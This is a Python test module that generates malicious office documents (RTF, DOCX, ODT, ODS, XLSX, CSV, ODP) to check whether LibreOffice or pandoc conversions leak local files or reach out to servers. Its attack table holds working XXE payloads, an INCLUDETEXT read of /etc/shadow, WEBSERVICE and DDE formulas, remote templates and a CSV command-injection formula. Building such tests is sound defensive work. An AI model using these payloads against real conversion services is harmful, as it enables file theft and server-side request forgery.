"""Office documents that point at files and servers (LibreOffice, pandoc)."""

from __future__ import annotations

from pathlib import Path

from hostile.attack import REFUSED, Make, fill, package, row
from hostile.traps import Traps

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{OFFICE}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
OOXML = "application/vnd.openxmlformats-officedocument."
XML = '<?xml version="1.0" encoding="UTF-8"?>'
_ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"'
)
_WORDS = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}


def relations(*rows: tuple[str, str, str]) -> str:
    """(id, the last part of its type, target); a target with a scheme is external."""
    items = "".join(
        f'<Relationship Id="{name}" Type="{OFFICE}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if ":" in target or target.startswith("/") else "")
        + "/>"
        for name, kind, target in rows
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'{XML}<Relationships xmlns="{space}">{items}</Relationships>'


def docx(body: str, *external: tuple[str, str, str], doctype: str = "", settings: str = "") -> Make:
    """A document of `body`, which may name `external` relations."""

    def make(path: Path, traps: Traps) -> None:
        filled = [(a, b, fill(target, traps, path.stem)) for a, b, target in external]
        types = (
            f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Override PartName="/word/document.xml" '
            f'ContentType="{OOXML}wordprocessingml.document.main+xml"/>'
            '<Override PartName="/word/settings.xml" '
            f'ContentType="{OOXML}wordprocessingml.settings+xml"/></Types>'
        )
        own = [("settings", "settings", "settings.xml")] if settings else []
        parts = {
            "[Content_Types].xml": types,
            "_rels/.rels": relations(("r", "officeDocument", "word/document.xml")),
            "word/document.xml": f"{XML}{fill(doctype, traps, path.stem)}<w:document {_W}>"
            f"<w:body>{fill(body, traps, path.stem)}<w:p><w:r><w:t>Hello.</w:t></w:r></w:p>"
            "</w:body></w:document>",
            "word/_rels/document.xml.rels": relations(*own, *filled),
        }
        if settings:
            parts["word/settings.xml"] = f"{XML}<w:settings {_W}>{settings}</w:settings>"
            parts["word/_rels/settings.xml.rels"] = relations(*filled)
        package(path, parts)

    return make


def odf(kind: str, body: str, *, doctype: str = "", before: str = "", **more: str) -> Make:
    """An OpenDocument file whose content is `body`; `more`: further parts, `/` written `__`."""

    def make(path: Path, traps: Traps) -> None:
        name = _WORDS[kind]
        filled = {key: fill(text, traps, path.stem) for key, text in more.items()}
        further = {key.replace("__", "/") + ".xml": text for key, text in filled.items()}
        entries = "".join(
            f'<manifest:file-entry manifest:full-path="{part}" manifest:media-type="text/xml"/>'
            for part in ("content.xml", "styles.xml", *further)
        )
        package(
            path,
            {
                "mimetype": f"application/vnd.oasis.opendocument.{name}",
                "content.xml": f"{XML}{fill(doctype, traps, path.stem)}"
                f"<office:document-content {_ODF}>{fill(before, traps, path.stem)}"
                f"<office:body><office:{name}>{fill(body, traps, path.stem)}"
                f"</office:{name}></office:body></office:document-content>",
                "styles.xml": f"{XML}<office:document-styles {_ODF}><office:styles/>"
                "<office:automatic-styles/><office:master-styles/></office:document-styles>",
                "META-INF/manifest.xml": f"{XML}<manifest:manifest "
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type='
                f'"application/vnd.oasis.opendocument.{name}"/>{entries}</manifest:manifest>',
                **further,
            },
        )

    return make


def xlsx(cells: str, *, links: str = "", doctype: str = "", strings: str = "") -> Make:
    """A workbook of one sheet; `links`: an address that an external link has."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

    def make(path: Path, traps: Traps) -> None:
        target = fill(links, traps, path.stem)
        external = '<externalReferences><externalReference r:id="x"/></externalReferences>'
        overrides = "".join(
            f'<Override PartName="/xl/{part}" ContentType="{OOXML}spreadsheetml.{kind}+xml"/>'
            for part, kind in (
                ("workbook.xml", "sheet.main"),
                ("sheet1.xml", "worksheet"),
                ("link.xml", "externalLink"),
                ("sharedStrings.xml", "sharedStrings"),
            )
        )
        parts = {
            "[Content_Types].xml": f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package'
            '/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
            f'openxmlformats-package.relationships+xml"/>{overrides}</Types>',
            "_rels/.rels": relations(("r", "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": f'{XML}<workbook xmlns="{main}" xmlns:r="{OFFICE}"><sheets>'
            '<sheet name="One" sheetId="1" r:id="s"/></sheets>'
            f"{external if links else ''}</workbook>",
            "xl/_rels/workbook.xml.rels": relations(
                ("s", "worksheet", "sheet1.xml"),
                *([("x", "externalLink", "link.xml")] if links else []),
                *([("t", "sharedStrings", "sharedStrings.xml")] if strings else []),
            ),
            "xl/sheet1.xml": f'{XML}{fill(doctype, traps, path.stem)}<worksheet xmlns="{main}">'
            f"<sheetData>{fill(cells, traps, path.stem)}</sheetData></worksheet>",
        }
        if links:
            parts["xl/link.xml"] = (
                f'{XML}<externalLink xmlns="{main}" xmlns:r="{OFFICE}"><externalBook r:id="b">'
                '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
            )
            parts["xl/_rels/link.xml.rels"] = relations(("b", "externalLinkPath", target))
        if strings:
            parts["xl/sharedStrings.xml"] = strings
        package(path, parts)

    return make


def _picture(relation: str) -> str:
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="2000000" cy="2000000"/>'
        '<wp:docPr id="1" name="p"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'<a:blip {relation}="p"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
        '<a:xfrm><a:off x="0" y="0"/><a:ext cx="2000000" cy="2000000"/></a:xfrm>'
        '<a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )


def _field(code: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def _rtf(code: str) -> str:
    return rf"{{\rtf1\ansi {{\field{{\*\fldinst {{ {code} }}}}{{\fldrslt x}}}} Hello.\par}}"


def _drawn(address: str) -> str:
    return (
        '<draw:frame text:anchor-type="paragraph" svg:width="5cm" svg:height="5cm">'
        f'<draw:image xlink:href="{address}" xlink:type="simple" xlink:show="embed" '
        'xlink:actuate="onLoad"/></draw:frame>'
    )


def _section(address: str) -> str:
    return (
        f'<text:section text:name="s"><text:section-source xlink:href="{address}" '
        'xlink:type="simple"/><text:p>x</text:p></text:section><text:p>Hello.</text:p>'
    )


def _cell(formula: str) -> str:
    return (
        '<table:table table:name="One"><table:table-row><table:table-cell '
        f'table:formula="{formula}" office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell></table:table-row></table:table>"
    )


def _linked_table(address: str) -> str:
    return (
        f'<table:table table:name="One"><table:table-source xlink:href="{address}" '
        'xlink:type="simple" table:filter-name="Text - txt - csv (StarCalc)" '
        'table:filter-options="44,34,76,1" table:mode="copy-results-only" '
        'table:refresh-delay="PT00H00M01S"/>'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell></table:table-row></table:table>"
    )


def _object(address: str) -> str:
    return (
        '<text:p><draw:frame text:anchor-type="paragraph" svg:width="5cm" svg:height="5cm">'
        f'<draw:object xlink:href="{address}" xlink:type="simple" xlink:show="embed" '
        'xlink:actuate="onLoad"/></draw:frame>Hello.</text:p>'
    )


_XXE = '<!DOCTYPE x [<!ENTITY leak SYSTEM "{uri}">]>'

ATTACKS = (
    row("rtf-includepicture", "rtf > pdf docx odt", _rtf('INCLUDEPICTURE "{file.png}"')),
    row("rtf-includepicture-http", "rtf > pdf", _rtf('INCLUDEPICTURE "{http}.png"')),
    row("rtf-includetext", "rtf > pdf odt", _rtf('INCLUDETEXT "{file}"')),
    row("rtf-template", "rtf > pdf", r"{\rtf1{\*\template {http}.dot}Hello.\par}"),
    row("rtf-passwd", "rtf > txt odt", _rtf('INCLUDETEXT "/etc/shadow"')),
    row(
        "docx-picture-file",
        "docx > pdf odt html",
        docx(_picture("r:link"), ("p", "image", "{uri.png}")),
    ),
    row(
        "docx-picture-embedded-file",
        "docx > pdf",
        docx(_picture("r:embed"), ("p", "image", "{uri.png}")),
    ),
    row("docx-picture-http", "docx > pdf", docx(_picture("r:link"), ("p", "image", "{http}.png"))),
    row("docx-includetext", "docx > pdf odt", docx(_field("INCLUDETEXT &quot;{file}&quot;"))),
    row(
        "docx-template",
        "docx > pdf",
        docx(
            "",
            ("t", "attachedTemplate", "{http}.dotx"),
            settings='<w:attachedTemplate r:id="t"/>',
        ),
    ),
    row(
        "docx-chunk",
        "docx > pdf",
        docx('<w:altChunk r:id="c"/>', ("c", "aFChunk", "{uri.html}")),
    ),
    row(
        "docx-subdocument",
        "docx > pdf",
        docx('<w:p><w:subDoc r:id="d"/></w:p>', ("d", "subDocument", "{uri.rtf}")),
    ),
    row("docx-xxe", "docx > pdf md", docx("<w:p/>&leak;", doctype=_XXE), *REFUSED),
    row(
        "odt-picture-file",
        "odt > pdf docx html",
        odf("odt", f"<text:p>{_drawn('{uri.png}')}Hello.</text:p>"),
    ),
    row(
        "odt-picture-relative",
        "odt > pdf html",
        odf("odt", f"<text:p>{_drawn('../../../../../../..{file.png}')}Hello.</text:p>"),
    ),
    row(
        "odt-picture-http",
        "odt > pdf html",
        odf("odt", f"<text:p>{_drawn('{http}.png')}Hello.</text:p>"),
    ),
    row("odt-section-file", "odt > pdf txt docx", odf("odt", _section("{uri}"))),
    row("odt-section-http", "odt > pdf", odf("odt", _section("{http}"))),
    row("odt-section-ftp", "odt > pdf", odf("odt", _section("ftp://127.0.0.1:{port}/x"))),
    row("odt-section-smb", "odt > pdf", odf("odt", _section("smb://127.0.0.1:{port}/x"))),
    row("odt-object", "odt > pdf", odf("odt", _object("{uri.rtf}"))),
    row("odt-xxe", "odt > pdf md", odf("odt", "<text:p>&leak;</text:p>", doctype=_XXE), *REFUSED),
    row(
        "ods-webservice",
        "ods > pdf csv xlsx",
        odf("ods", _cell("of:=WEBSERVICE(&quot;{http}&quot;)")),
    ),
    row(
        "ods-webservice-file",
        "ods > csv pdf",
        odf("ods", _cell("of:=WEBSERVICE(&quot;{uri}&quot;)")),
    ),
    row("ods-external-cell", "ods > csv pdf", odf("ods", _cell("of:='{uri.csv}'#$secret.A1"))),
    row(
        "ods-dde",
        "ods > csv pdf",
        odf("ods", _cell("of:=DDE(&quot;soffice&quot;;&quot;{file.csv}&quot;;&quot;A1&quot;)")),
    ),
    row("ods-table-file", "ods > csv pdf", odf("ods", _linked_table("{uri.csv}"))),
    row("ods-table-http", "ods > csv pdf", odf("ods", _linked_table("{http}"))),
    row(
        "xlsx-webservice",
        "xlsx > pdf ods html",
        xlsx('<row r="1"><c r="A1" t="str"><f>_xlfn.WEBSERVICE("{http}")</f><v>x</v></c></row>'),
    ),
    row(
        "xlsx-external-book",
        "xlsx > pdf ods",
        xlsx('<row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>1</v></c></row>', links="{uri.csv}"),
    ),
    row(
        "xlsx-xxe",
        "xlsx > pdf csv",
        xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>&leak;</t></is></c></row>', doctype=_XXE),
        *REFUSED,
    ),
    row("csv-webservice", "csv > xlsx pdf ods", '=WEBSERVICE("{http}"),2\n=HYPERLINK("{uri}"),4\n'),
    row("csv-command", "csv > ods pdf", "=cmd|'/c cat {file}'!A0,2\n@SUM(1+1),3\n"),
    row(
        "odp-picture-file",
        "odp > pdf pptx",
        odf("odp", f'<draw:page draw:name="p">{_drawn("{uri.png}")}</draw:page>'),
    ),
    row(
        "odp-sound-http",
        "odp > pdf",
        odf(
            "odp",
            '<draw:page draw:name="p"><draw:frame svg:width="5cm" svg:height="5cm"><draw:plugin '
            'xlink:href="{http}.mp4" xlink:type="simple" draw:mime-type="video/mp4"/></draw:frame>'
            "</draw:page>",
        ),
    ),
)
